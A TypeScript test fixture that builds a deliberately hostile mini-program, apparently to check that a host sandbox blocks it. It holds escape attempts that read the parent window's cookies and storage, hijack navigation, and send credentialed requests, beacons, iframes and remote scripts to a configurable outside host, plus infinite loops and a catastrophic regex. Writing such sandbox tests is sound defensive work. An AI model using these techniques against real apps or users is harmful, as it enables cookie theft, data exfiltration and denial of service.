/** A mini-program that means no good, or was written without care: a button for each, and `#log` says what came of it. */
export const hostileApp = (outside: string): Readonly<Record<string, string | object>> => ({
  'app.json': {
    pages: ['pages/home/index', 'pages/module/index', 'pages/wxs/index'],
    window: { navigationBarTitleText: 'Hostile' },
  },
  'ext.json': { extEnable: true, extAppid: 'wx00000000000000ab', ext: { outside } },
  'app.js': 'App({})',
  'pages/home/index.wxml': `
    <canvas type="2d" id="canvas" style="width:20px;height:20px"/>
    <view wx:for="{{buttons}}" wx:key="*this" id="{{item}}" bindtap="press" data-name="{{item}}" style="height:30px">{{item}}</view>
    <view id="log">{{log}}</view>`,
  'pages/home/index.js': HOME,
  'pages/module/index.wxml': '<view/>',
  'pages/module/index.js': 'let turns = 0;\nwhile (true) turns += 1;\nPage({});',
  'pages/wxs/index.wxml': '<wxs src="./slow.wxs" module="slow"/><view id="log">{{slow.count(1)}}</view>',
  'pages/wxs/index.js': 'Page({})',
  'pages/wxs/slow.wxs': 'module.exports = { count: function (n) {\n  while (n > 0) n++;\n  return n } }',
});

const HOME = `const { outside } = wx.getExtConfigSync();
/** The window itself: a canvas is a real one. */
const windowOf = (page) => new Promise((done) =>
  page.createSelectorQuery().select('#canvas').fields({ node: true }).exec(([found]) => done(found.node.ownerDocument.defaultView)));
const tried = async (work) => {
  try { return String(await work()); } catch (error) { return error.name; }
};
const escapes = {
  topDocument: (w) => w.top.document.cookie,
  topStorage: (w) => w.top.localStorage.length,
  topPlace: (w) => w.top.location.href,
  topGoes: (w) => { w.top.location.href = outside; return 'gone'; },
  parentCalls: (w) => w.parent.parent.fetch,
  ownCookies: (w) => '<' + w.document.cookie + '>',
  setsCookie: (w) => { w.document.cookie = 'planted=1; domain=127.0.0.1'; return '<' + w.document.cookie + '>'; },
  opens: (w) => w.open(outside + '/opened'),
  fetches: (w) => w.fetch(outside, { mode: 'no-cors', credentials: 'include' }),
  sends: (w) => w.navigator.sendBeacon(outside + '/beacon', 'x') && 'sent',
  frames: (w) => new Promise((done) => {
    const frame = w.document.createElement('iframe');
    w.document.addEventListener('securitypolicyviolation', (event) => done('refused ' + event.effectiveDirective), { once: true });
    frame.src = outside + '/framed';
    w.document.body.append(frame);
  }),
  makesCode: (w) => w.eval('1'),
  script: (w) => new Promise((done) => {
    const script = w.document.createElement('script');
    script.onload = () => done('ran');
    script.onerror = () => done('refused');
    script.src = outside + '/script.js';
    w.document.body.append(script);
  }),
};
const acts = {
  browser: () => {
    return window.location.href;
  },
  loop: () => {
    for (;;) {}
  },
  waits: async () => {
    for (;;) await 0;
  },
  pattern: () => /^(a+)+$/.test('a'.repeat(60) + 'b'),
  module: () => { wx.navigateTo({ url: '/pages/module/index' }); },
  wxs: () => { wx.navigateTo({ url: '/pages/wxs/index' }); },
};
Page({
  data: { log: '', buttons: [...Object.keys(escapes), ...Object.keys(acts)] },
  press({ currentTarget }) {
    const { name } = currentTarget.dataset;
    if (acts[name]) return acts[name]();
    windowOf(this).then((w) => tried(() => escapes[name](w))).then((said) => this.setData({ log: name + ': ' + said }));
  },
});`;
